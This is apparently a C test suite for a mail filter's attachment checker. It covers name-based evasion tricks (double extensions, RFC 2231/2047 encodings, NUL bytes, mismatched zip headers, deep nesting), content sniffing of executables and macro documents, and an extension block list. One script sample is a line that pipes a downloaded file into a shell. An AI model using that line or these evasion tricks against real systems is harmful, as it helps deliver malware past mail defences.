/* src/filter/attach.c: dangerous attachments by name (RFC 2231/2047
 * decoded) and by content (PE, ELF, Mach-O, shebang, OLE2 with VBA, zip
 * entries), through the MIME structure. */
#include <stdint.h>
#include <stdlib.h>

#include "core/base64.h"
#include "core/buf.h"
#include "filter/attach.h"
#include "../test.h"

#define BLOCK "exe, js, scr, docm, bat, vbs"

/* ---- content makers ---- */

static void put16(struct buf *b, unsigned v)
{
	buf_appendc(b, (char)(v & 0xff));
	buf_appendc(b, (char)(v >> 8 & 0xff));
}

static void put32(struct buf *b, uint32_t v)
{
	put16(b, v & 0xffff);
	put16(b, v >> 16);
}

/* A minimal PE: "MZ", e_lfanew = 0x40, "PE\0\0" there. */
static void make_pe(struct buf *b)
{
	char h[0x60] = {0};
	h[0] = 'M';
	h[1] = 'Z';
	h[0x3c] = 0x40;
	memcpy(h + 0x40, "PE\0\0", 4);
	buf_append(b, h, sizeof h);
}

/* A zip of stored empty entries (APPNOTE 4.3.7, 4.3.12, 4.3.16); with
 * central: a central directory, else local headers only. */
static void make_zip(struct buf *b, const char *const *names, size_t n, bool central)
{
	uint32_t offs[16];
	size_t cd;

	for (size_t i = 0; i < n; i++) {
		offs[i] = (uint32_t)b->len;
		buf_append(b, "PK\3\4", 4);
		put16(b, 20); /* version */
		put16(b, 0);  /* flags */
		put16(b, 0);  /* stored */
		put32(b, 0);  /* time, date */
		put32(b, 0);  /* crc */
		put32(b, 0);  /* sizes */
		put32(b, 0);
		put16(b, (unsigned)strlen(names[i]));
		put16(b, 0);
		buf_appends(b, names[i]);
	}
	if (!central)
		return;
	cd = b->len;
	for (size_t i = 0; i < n; i++) {
		buf_append(b, "PK\1\2", 4);
		put16(b, 20);
		put16(b, 20);
		put16(b, 0);
		put16(b, 0);
		put32(b, 0);
		put32(b, 0);
		put32(b, 0);
		put32(b, 0);
		put16(b, (unsigned)strlen(names[i]));
		put16(b, 0); /* extra */
		put16(b, 0); /* comment */
		put16(b, 0); /* disk */
		put16(b, 0);
		put32(b, 0);
		put32(b, offs[i]);
		buf_appends(b, names[i]);
	}
	buf_append(b, "PK\5\6", 4);
	put16(b, 0);
	put16(b, 0);
	put16(b, (unsigned)n);
	put16(b, (unsigned)n);
	put32(b, (uint32_t)(b->len - cd - 8));
	put32(b, (uint32_t)cd);
	put16(b, 0);
}

/* An OLE2 file ([MS-CFB]) of 1024 octets: the header, and at 512 the
 * directory: "Root Entry" and, when vba, a storage "VBA". */
static void make_ole2(struct buf *b, const char *entry)
{
	unsigned char d[1024] = {0};
	const char *names[2] = {"Root Entry", entry};

	memcpy(d, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
	for (int k = 0; k < 2; k++) {
		size_t off = 512 + (size_t)k * 128, l;
		if (names[k] == NULL)
			continue;
		l = strlen(names[k]);
		for (size_t i = 0; i < l; i++)
			d[off + 2 * i] = (unsigned char)names[k][i];
		d[off + 64] = (unsigned char)(2 * (l + 1));
	}
	buf_append(b, d, sizeof d);
}

/* A multipart/mixed message: a text part, then one attachment whose MIME
 * header lines are hdr and whose body is content, base64-encoded. */
static char *message(const char *hdr, const void *content, size_t n, size_t *len_r)
{
	struct buf m = BUF_INIT;
	char *b64 = base64_encode(content, n);

	buf_appends(&m, "From: a@example.org\r\nTo: b@example.net\r\nSubject: x\r\n"
			"MIME-Version: 1.0\r\n"
			"Content-Type: multipart/mixed; boundary=\"XYZ\"\r\n\r\n"
			"preamble\r\n--XYZ\r\nContent-Type: text/plain\r\n\r\nHello.\r\n"
			"--XYZ\r\n");
	buf_appends(&m, hdr);
	buf_appends(&m, "Content-Transfer-Encoding: base64\r\n\r\n");
	for (size_t i = 0, l = strlen(b64); i < l; i += 76) {
		buf_append(&m, b64 + i, l - i < 76 ? l - i : 76);
		buf_appends(&m, "\r\n");
	}
	buf_appends(&m, "--XYZ--\r\nepilogue\r\n");
	free(b64);
	*len_r = m.len;
	return m.data;
}

static struct attach_result check(const char *block, const char *msg, size_t len)
{
	struct attach_rules *r = attach_rules_new(block);
	struct attach_result res;

	CHECK(attach_check(r, msg, len, &res) == 0);
	attach_rules_free(&r);
	CHECK(r == NULL);
	return res;
}

/* ---- names ---- */

static const struct {
	const char *hdr;
	const char *why; /* NULL: clean */
} name_cases[] = {
	{"Content-Type: application/pdf\r\nContent-Disposition: attachment; "
	 "filename=\"invoice.pdf.exe\"\r\n",
	 "attachment \"invoice.pdf.exe\": .exe files are not accepted"},
	{"Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=INVOICE.PDF.EXE\r\n",
	 "attachment \"INVOICE.PDF.EXE\": .exe files are not accepted"},
	/* Windows drops trailing dots and spaces */
	{"Content-Disposition: attachment; filename=\"a.exe. . \"\r\n",
	 "attachment \"a.exe. . \": .exe files are not accepted"},
	/* the name in Content-Type only */
	{"Content-Type: application/octet-stream; name=\"run.js\"\r\n",
	 "attachment \"run.js\": .js files are not accepted"},
	/* a harmless disposition name does not hide a dangerous type name */
	{"Content-Type: application/octet-stream; name=\"run.vbs\"\r\nContent-Disposition: "
	 "attachment; filename=\"run.txt\"\r\n",
	 "attachment \"run.vbs\": .vbs files are not accepted"},
	/* folded field, parameters in odd places, comments */
	{"Content-Disposition: attachment (c);\r\n\tfilename = (x) \"x.scr\"\r\n",
	 "attachment \"x.scr\": .scr files are not accepted"},
	/* RFC 2231 4: charset and percent-encoding */
	{"Content-Disposition: attachment; filename*=UTF-8''%E2%82%ACrechnung.pdf.exe\r\n",
	 "attachment \"???rechnung.pdf.exe\": .exe files are not accepted"},
	/* RFC 2231 3: continuations, some encoded */
	{"Content-Disposition: attachment;\r\n filename*0*=us-ascii'en'ta;\r\n filename*1=x.do;\r\n"
	 " filename*2*=c%6D\r\n",
	 "attachment \"tax.docm\": .docm files are not accepted"},
	/* RFC 2231 sections win over a plain value */
	{"Content-Disposition: attachment; filename=\"a.txt\"; filename*=''a.bat\r\n",
	 "attachment \"a.bat\": .bat files are not accepted"},
	/* ...but the plain one is checked too: some programs take it */
	{"Content-Disposition: attachment; filename=\"a.exe\"; filename*=''a.txt\r\n",
	 "attachment \"a.exe\": .exe files are not accepted"},
	{"Content-Disposition: attachment; filename*0=\"a.txt\"; filename=\"a.js\"\r\n",
	 "attachment \"a.js\": .js files are not accepted"},
	/* a repeated parameter: some programs take the last one */
	{"Content-Disposition: attachment; filename=\"a.txt\"; filename=\"a.scr\"\r\n",
	 "attachment \"a.scr\": .scr files are not accepted"},
	/* repeated fields: the second one's names count too */
	{"Content-Disposition: attachment; filename=\"a.txt\"\r\n"
	 "Content-Disposition: attachment; filename=\"a.bat\"\r\n",
	 "attachment \"a.bat\": .bat files are not accepted"},
	{"Content-Type: application/pdf; name=\"a.pdf\"\r\n"
	 "Content-Type: application/octet-stream; name=\"a.vbs\"\r\n",
	 "attachment \"a.vbs\": .vbs files are not accepted"},
	/* RFC 2047 encoded words in a name */
	{"Content-Type: application/octet-stream; name=\"=?UTF-8?Q?caf=C3=A9=2Ejs?=\"\r\n",
	 "attachment \"caf??.js\": .js files are not accepted"},
	{"Content-Type: application/octet-stream; name=\"=?iso-8859-1?B?Zm9vLmV4ZQ==?=\"\r\n",
	 "attachment \"foo.exe\": .exe files are not accepted"},
	/* a NUL ends the name for the program that opens it */
	{"Content-Disposition: attachment; filename*=utf-8''a.exe%00.pdf\r\n",
	 "attachment \"a.exe?.pdf\": .exe files are not accepted"},
	/* a path: the extension of its last component */
	{"Content-Disposition: attachment; filename=\"C:\\\\tmp\\\\a.exe\"\r\n",
	 "attachment \"C:?tmp?a.exe\": .exe files are not accepted"},
	/* harmless ones */
	{"Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"report.pdf\"\r\n",
	 NULL},
	{"Content-Disposition: attachment; filename=\"exe\"\r\n", NULL},
	{"Content-Disposition: attachment; filename=\"report.exe.pdf\"\r\n", NULL},
	{"Content-Disposition: attachment; filename=\"a.exe\\\\b\"\r\n", NULL},
	{"Content-Disposition: attachment; filename=\"notes.jsx\"\r\n", NULL},
};

static void test_names(void)
{
	static const char pdf[] = "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n%%EOF\n";

	for (size_t i = 0; i < sizeof name_cases / sizeof name_cases[0]; i++) {
		size_t len;
		char *m = message(name_cases[i].hdr, pdf, sizeof pdf - 1, &len);
		struct attach_result r = check(BLOCK, m, len);

		CHECK_INT(i, r.dangerous, name_cases[i].why != NULL);
		CHECK_STR(i, r.dangerous ? r.why : NULL, name_cases[i].why);
		free(m);
	}
}

/* The rules list: separators, dots, case. */
static void test_rules(void)
{
	static const char *const lists[] = {"EXE", " .exe ,js", "js,exe", "exe"};
	size_t len;
	char *m = message("Content-Disposition: attachment; filename=\"a.Exe\"\r\n", "x", 1, &len);

	for (size_t i = 0; i < sizeof lists / sizeof lists[0]; i++) {
		struct attach_result r = check(lists[i], m, len);
		CHECK_INT(i, r.dangerous, 1);
	}
	struct attach_result r = check("", m, len);
	CHECK(!r.dangerous);
	r = check("com", m, len);
	CHECK(!r.dangerous);
	free(m);
}

/* ---- content ---- */

static void test_content(void)
{
	struct {
		const char *what;
		const char *why;
	} want[] = {
		{"pe", "attachment \"report.pdf\" is an executable (Windows PE)"},
		{"elf", "attachment \"report.pdf\" is an executable (ELF)"},
		{"macho", "attachment \"report.pdf\" is an executable (Mach-O or Java)"},
		{"script", "attachment \"report.pdf\" is a script"},
		{"ole2vba", "attachment \"report.pdf\" is a document with macros"},
		{"ole2proj", "attachment \"report.pdf\" is a document with macros"},
		{"ole2", NULL},
		{"ole2lower", "attachment \"report.pdf\" is a document with macros"},
		{"zippoly", "attachment \"report.pdf\" contains \"b.exe\": .exe files are not accepted"},
		{"zip64", "attachment \"report.pdf\" contains \"c.js\": .js files are not accepted"},
		{"ziplie", "attachment \"report.pdf\" contains \"a.exe\": .exe files are not accepted"},
		{"zipjs", "attachment \"report.pdf\" contains \"run.js\": .js files are not accepted"},
		{"zipvba", "attachment \"report.pdf\" is a document with macros"},
		{"ziplocal", "attachment \"report.pdf\" contains \"a.pdf.exe\": .exe files are not accepted"},
		{"zipsfx", "attachment \"report.pdf\" is an executable (Windows PE)"},
		{"zipok", NULL},
		{"mzonly", NULL},
		{"text", NULL},
	};
	for (size_t i = 0; i < sizeof want / sizeof want[0]; i++) {
		struct buf c = BUF_INIT;
		const char *w = want[i].what;
		size_t len;

		if (strcmp(w, "pe") == 0) {
			make_pe(&c);
		} else if (strcmp(w, "elf") == 0) {
			buf_append(&c, "\177ELF\2\1\1\0\0\0\0\0\0\0\0\0", 16);
		} else if (strcmp(w, "macho") == 0) {
			buf_append(&c, "\xcf\xfa\xed\xfe\x07\0\0\x01", 8);
		} else if (strcmp(w, "script") == 0) {
			buf_appends(&c, "#!/bin/sh\ncurl http://x | sh\n");
		} else if (strcmp(w, "ole2vba") == 0) {
			make_ole2(&c, "VBA");
		} else if (strcmp(w, "ole2proj") == 0) {
			make_ole2(&c, "_VBA_PROJECT_CUR");
		} else if (strcmp(w, "ole2lower") == 0) {
			/* [MS-CFB] 2.6.4: names compare case-insensitively */
			make_ole2(&c, "vba");
		} else if (strcmp(w, "zippoly") == 0) {
			/* a GIF with a zip after it */
			const char *n[] = {"b.exe"};
			buf_appends(&c, "GIF89a\1\0\1\0\0\0\0;");
			make_zip(&c, n, 1, true);
		} else if (strcmp(w, "zip64") == 0) {
			/* APPNOTE 4.4.1.4: counts and offsets 0xFFFF... in the
			 * end record, the real ones in a zip64 record (left out) */
			const char *n[] = {"c.js"};
			make_zip(&c, n, 1, true);
			memset(c.data + c.len - 14, 0xff, 12);
		} else if (strcmp(w, "ziplie") == 0) {
			/* the central directory says a.txt, the local header a.exe */
			const char *n[] = {"a.exe"};
			make_zip(&c, n, 1, true);
			char *cd = memmem(c.data, c.len, "PK\1\2", 4);
			memcpy(cd + 46, "a.txt", 5);
		} else if (strcmp(w, "ole2") == 0) {
			make_ole2(&c, "WordDocument");
		} else if (strcmp(w, "zipjs") == 0) {
			const char *n[] = {"docs/readme.txt", "docs/run.js"};
			make_zip(&c, n, 2, true);
		} else if (strcmp(w, "zipvba") == 0) {
			const char *n[] = {"[Content_Types].xml", "word/document.xml",
					   "word/vbaProject.bin"};
			make_zip(&c, n, 3, true);
		} else if (strcmp(w, "ziplocal") == 0) {
			const char *n[] = {"a.txt", "a.pdf.exe"};
			make_zip(&c, n, 2, false);
		} else if (strcmp(w, "zipsfx") == 0) {
			const char *n[] = {"a.txt"};
			make_pe(&c);
			make_zip(&c, n, 1, true);
		} else if (strcmp(w, "zipok") == 0) {
			const char *n[] = {"a.txt", "b/c.pdf", "exe"};
			make_zip(&c, n, 3, true);
		} else if (strcmp(w, "mzonly") == 0) {
			buf_appends(&c, "MZ is a fine pair of letters to start a text with, really.\r\n");
		} else {
			buf_appends(&c, "%PDF-1.7\n");
		}
		char *m = message("Content-Type: application/pdf; name=\"report.pdf\"\r\n", c.data,
				  c.len, &len);
		struct attach_result r = check(BLOCK, m, len);
		CHECK_INT(i, r.dangerous, want[i].why != NULL);
		CHECK_STR(i, r.dangerous ? r.why : NULL, want[i].why);
		free(m);
		buf_free(&c);
	}
}

/* A zip whose central directory offset is shifted by data before it. */
static void test_zip_prepended(void)
{
	struct buf z = BUF_INIT, c = BUF_INIT;
	const char *n[] = {"x.scr"};
	size_t len;

	make_zip(&z, n, 1, true);
	buf_appends(&c, "PK\3\4");
	buf_append(&c, "garbage garbage garbage garbage", 31);
	buf_append(&c, z.data, z.len);
	char *m = message("Content-Type: application/zip; name=\"a.zip\"\r\n", c.data, c.len, &len);
	struct attach_result r = check(BLOCK, m, len);
	CHECK_STR(0, r.why, "attachment \"a.zip\" contains \"x.scr\": .scr files are not accepted");
	free(m);
	buf_free(&z);
	buf_free(&c);
}

/* ---- structure ---- */

static const struct {
	const char *msg;
	const char *why;
} struct_cases[] = {
	/* a single-part message that is an executable */
	{"Subject: x\r\nContent-Type: application/octet-stream\r\n"
	 "Content-Transfer-Encoding: base64\r\n\r\nf0VMRgIBAQAAAAAA\r\n",
	 "attachment \"(no name)\" is an executable (ELF)"},
	/* a message's own text that starts with a shebang is not a script
	 * attachment */
	{"Subject: x\r\n\r\n#!/bin/sh\r\necho hi\r\n", NULL},
	{"Subject: x\r\nContent-Type: text/plain\r\nContent-Disposition: attachment\r\n\r\n"
	 "#!/bin/sh\r\necho hi\r\n",
	 "attachment \"(no name)\" is a script"},
	/* quoted-printable decoded before sniffing */
	{"Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: quoted-printable\r\n"
	 "\r\n=7FELF=02=01\r\n",
	 "attachment \"(no name)\" is an executable (ELF)"},
	/* an encapsulated message (RFC 2046 5.2.1) */
	{"Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\nContent-Type: message/rfc822\r\n\r\n"
	 "Subject: inner\r\nContent-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\n"
	 "Content-Type: application/octet-stream; name=x.exe\r\n\r\nhi\r\n--i--\r\n--o--\r\n",
	 "attachment \"x.exe\": .exe files are not accepted"},
	/* base64 message/rfc822 (not allowed by RFC 2046 5.2.1, seen anyway) */
	{"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n"
	 "Q29udGVudC1UeXBlOiBhcHBsaWNhdGlvbi9vY3RldC1zdHJlYW07IG5hbWU9YS5iYXQNCg0KaGkNCg==\r\n",
	 "attachment \"a.bat\": .bat files are not accepted"},
	/* multipart/digest: parts are messages by default (RFC 2046 5.1.5) */
	{"Content-Type: multipart/digest; boundary=d\r\n\r\n--d\r\n\r\n"
	 "Content-Type: text/plain; name=\"a.vbs\"\r\n\r\nx\r\n--d--\r\n",
	 "attachment \"a.vbs\": .vbs files are not accepted"},
	/* no closing delimiter: the last part runs to the end */
	{"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nt\r\n--b\r\n"
	 "Content-Disposition: attachment; filename=a.exe\r\n\r\nx",
	 "attachment \"a.exe\": .exe files are not accepted"},
	/* a line that only starts with the boundary is not a delimiter */
	{"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
	 "Content-Type: text/plain\r\n\r\n--bx\r\nContent-Disposition: attachment; filename=a.exe\r\n"
	 "\r\n--b--\r\n",
	 NULL},
	/* bare LF line ends */
	{"Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Disposition: attachment; "
	 "filename=a.js\n\nx\n--b--\n",
	 "attachment \"a.js\": .js files are not accepted"},
	/* multipart without a boundary: one opaque part */
	{"Content-Type: multipart/mixed\r\n\r\n--b\r\nContent-Type: x/y; name=a.exe\r\n\r\n", NULL},
	/* a uuencoded or yEnc file in a text part is an attachment to mail
	 * programs (POSIX uuencode; yEnc 1.3) */
	{"Subject: x\r\n\r\nSee below.\r\n\r\nbegin 644 invoice.exe\r\nM5&AI<R!I<PH`\r\n`\r\nend\r\n",
	 "attachment \"invoice.exe\": .exe files are not accepted"},
	{"Content-Type: text/plain\r\n\r\n=ybegin line=128 size=3 name=run.js\r\nabc\r\n=yend size=3\r\n",
	 "attachment \"run.js\": .js files are not accepted"},
	{"Subject: x\r\n\r\nbegin 644 notes.txt\r\n`\r\nend\r\nbegin the meeting at 10.exe\r\n", NULL},
	/* broken input: nothing found, no crash */
	{"", NULL},
	{"Content-Type: ;;;=\"\r\n\r\n", NULL},
	{"Content-Disposition: attachment; filename*0*=%; filename*1=\r\n\r\n", NULL},
	{"Content-Type: multipart/mixed; boundary=\"\"\r\n\r\n--\r\n--\r\n", NULL},
};

static void test_structure(void)
{
	for (size_t i = 0; i < sizeof struct_cases / sizeof struct_cases[0]; i++) {
		const char *m = struct_cases[i].msg;
		struct attach_result r = check(BLOCK, m, strlen(m));

		CHECK_INT(i, r.dangerous, struct_cases[i].why != NULL);
		CHECK_STR(i, r.dangerous ? r.why : NULL, struct_cases[i].why);
	}
}

/* Nesting deeper than 32 is not looked into (bounded work), and refused:
 * it could hide anything; at 30 it is looked into. */
static void test_depth(void)
{
	for (int depth = 30; depth <= 40; depth += 10) {
		struct buf m = BUF_INIT;

		for (int i = 0; i < depth; i++)
			buf_printf(&m, "Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n", i,
				   i);
		buf_appends(&m, "Content-Disposition: attachment; filename=deep.exe\r\n\r\nx\r\n");
		for (int i = depth - 1; i >= 0; i--)
			buf_printf(&m, "--b%d--\r\n", i);
		struct attach_result r = check(BLOCK, m.data, m.len);
		CHECK_INT(depth, r.dangerous, 1);
		CHECK_STR(depth, r.why,
			  depth == 30 ? "attachment \"deep.exe\": .exe files are not accepted"
				      : "MIME parts nested deeper than 32 levels are not accepted");
		buf_free(&m);
	}
}

/* Many parts: the count is bounded, the walk ends. */
static void test_many_parts(void)
{
	struct buf m = BUF_INIT;

	buf_appends(&m, "Content-Type: multipart/mixed; boundary=b\r\n\r\n");
	for (int i = 0; i < 6000; i++)
		buf_appends(&m, "--b\r\n\r\nx\r\n");
	buf_appends(&m, "--b\r\nContent-Disposition: attachment; filename=late.exe\r\n\r\nx\r\n--b--\r\n");
	struct attach_result r = check(BLOCK, m.data, m.len);
	/* past ATTACH_MAX_PARTS: not looked into, so refused */
	CHECK(r.dangerous);
	CHECK_STR(0, r.why, "messages of more than 5000 MIME parts are not accepted");
	buf_free(&m);
}

/* A long name is cut in the reason, which stays within its buffer. */
static void test_long_name(void)
{
	struct buf h = BUF_INIT;
	size_t len;

	buf_appends(&h, "Content-Disposition: attachment; filename=\"");
	for (int i = 0; i < 3000; i++)
		buf_appendc(&h, 'a');
	buf_appends(&h, ".exe\"\r\n");
	char *m = message(h.data, "x", 1, &len);
	struct attach_result r = check(BLOCK, m, len);
	CHECK(r.dangerous);
	CHECK(strstr(r.why, "...\": .exe files are not accepted") != NULL);
	CHECK(strlen(r.why) < sizeof r.why);
	free(m);
	buf_free(&h);
}

/* RFC 2231 continuations without a count limit (mail programs have none):
 * the extension in section 69, sections out of order. */
static void test_many_sections(void)
{
	struct buf h = BUF_INIT;
	size_t len;

	buf_appends(&h, "Content-Disposition: attachment");
	buf_appends(&h, ";\r\n filename*69=\".exe\"");
	for (int i = 0; i < 69; i++)
		buf_printf(&h, ";\r\n filename*%d=\"p%d\"", i, i);
	buf_appends(&h, "\r\n");
	char *m = message(h.data, "x", 1, &len);
	struct attach_result r = check(BLOCK, m, len);
	CHECK(r.dangerous);
	CHECK(strstr(r.why, "...\": .exe files are not accepted") != NULL);
	free(m);
	buf_free(&h);
}

int main(void)
{
	test_run("names", test_names);
	test_run("rules", test_rules);
	test_run("content", test_content);
	test_run("zip_prepended", test_zip_prepended);
	test_run("structure", test_structure);
	test_run("depth", test_depth);
	test_run("many_parts", test_many_parts);
	test_run("long_name", test_long_name);
	test_run("many_sections", test_many_sections);
	return test_done("test_filter_attach");
}
